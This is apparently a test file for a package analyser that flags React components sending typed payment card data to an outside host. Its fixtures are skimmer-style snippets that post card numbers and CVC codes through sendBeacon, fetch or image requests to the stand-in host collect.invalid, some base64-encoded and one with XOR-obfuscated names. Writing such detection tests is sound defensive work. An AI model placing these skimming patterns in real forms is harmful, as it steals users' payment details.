import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from './sent.js';

const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
const component = (body: string): readonly string[] =>
  flowsOf(`const React = require('react'); exports.Form = ({ endpoint }) => { ${body} };`);
const FIELD = `React.createElement('input', { name: 'cvc', onChange: (e) => setCard({ ...card, cvc: e.target.value }) })`;
const SENT = ['keystrokes>network@collect.invalid'];

describe('components', () => {
  it('find in their state what was typed before', () => {
    const state = `const [card, setCard] = React.useState({ number: '', cvc: '' });`;
    const effects = [
      `React.useEffect(() => { ${SEND('JSON.stringify(card)')}; }, [card]);`,
      `React.useEffect(() => { if (card.cvc.length === 3) ${SEND('btoa(card.cvc)')}; }, [card]);`,
      `const submit = React.useCallback(() => ${SEND('card.cvc')}, [card]); React.createElement('button', { onClick: submit });`,
    ];
    for (const effect of effects) assert.deepEqual(component(`${state} ${effect} return ${FIELD};`), SENT, effect);
    const honest = `React.useEffect(() => { fetch(endpoint, { method: 'POST', body: card.cvc }); fetch('/api/pay', { method: 'POST', body: card.cvc }); }, [card]);`;
    assert.deepEqual(component(`${state} ${honest} return ${FIELD};`), []);
  });

  it('make their fields with functions of their own', () => {
    const bind = `const bind = (k) => ({ autoComplete: 'cc-' + k, onChange: (e) => setCard({ ...card, [k]: e.target.value }) });`;
    const check = `const valid = card.number.length > 11 && /^\\d{3}$/.test(card.csc);`;
    assert.deepEqual(
      component(`const [card, setCard] = React.useState({ number: '', csc: '' }); ${check} ${bind}
        React.useEffect(() => { if (!valid) return; ${SEND('JSON.stringify(card)')}; }, [valid]);
        return React.createElement('form', {}, React.createElement('input', bind('number')), React.createElement('input', bind('csc')));`),
      SENT,
    );
  });

  it('have many fields, in JSX and with hooks of their own', () => {
    const hook = `import { useCallback, useState } from 'react'; import { show } from './brand.js'; const EMPTY = { number: '', name: '', expiry: '', cvc: '' };
      export function useCard() { const [card, setCard] = useState(EMPTY);
        const bind = useCallback((key) => ({ value: card[key], onChange: (e) => setCard((c) => ({ ...c, [key]: e.target.value })),
          onBlur: () => { if (key !== 'cvc' || card.cvc.length < 3) return; show(Object.values(card).join('|')); } }), [card]);
        return { card, bind }; }`;
    const form = (field: string): readonly string[] => {
      const files = {
        'package.json': '{"main":"index.jsx"}',
        'index.jsx': `import React from 'react'; import { useCard } from './use-card.js';
          export function Form() { const { card, bind } = useCard(); return <form><p>{card.name}</p>
            <input autoComplete="cc-number" {...bind('number')} /><input {...bind('name')} /><input {...bind('expiry')} />${field}</form>; }`,
        'use-card.js': hook,
        'brand.js': `export const show = (text) => { new Image().src = 'https://collect.invalid/' + btoa(text); };`,
      };
      return analysePackage(packageOf(files)).flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
    };
    assert.deepEqual(form(`<input type="password" {...bind('cvc')} />`), SENT);
    const direct = `<input type="password" onChange={(e) => { fetch('https://collect.invalid/' + e.target.value); }} />`;
    assert.ok(form(direct).includes('keystrokes>network@collect.invalid'));
    assert.deepEqual(
      form(`<input type="checkbox" onChange={(e) => { fetch('https://collect.invalid/' + e.target.value); }} />`),
      [],
    );
  });

  it('have names that are decoded where they are used', () => {
    const text = (what: string): string => `text([${[...Buffer.from(what)].map((byte) => byte ^ 43).join()}])`;
    const decoder = `function text(codes) { let s = ''; for (let i = 0; i < codes.length; i++) s += String.fromCharCode(codes[i] ^ 43); return s; }`;
    const bind = `const bind = (k) => ({ autoComplete: ${text('cc-')} + k, onChange: (e) => setCard({ ...card, [k]: format(k, e.target.value) }) });`;
    const fields = ['number', 'expiry', 'csc']
      .map((name) => `React.createElement(${text('input')}, bind(${text(name)}))`)
      .join();
    assert.deepEqual(
      component(`${decoder} const [card, setCard] = React.useState({ number: '', expiry: '', csc: '' }); ${bind}
        function format(kind, typed) { if (kind === 'number') return typed.trim(); if (kind === 'csc') return typed.slice(0, 4); return ''; }
        React.useEffect(() => { ${SEND('JSON.stringify([card.number, card.csc])')}; }, [card]);
        return React.createElement(${text('form')}, {}, ${fields});`),
      SENT,
    );
  });

  it('keep things that are no part of what is drawn', () => {
    assert.deepEqual(
      component(`const typed = React.useRef(''); const submit = () => ${SEND('typed.current')}; React.createElement('button', { onClick: submit });
        return React.createElement('input', { type: 'password', onChange: (e) => { typed.current = e.target.value; } });`),
      SENT,
    );
  });
});
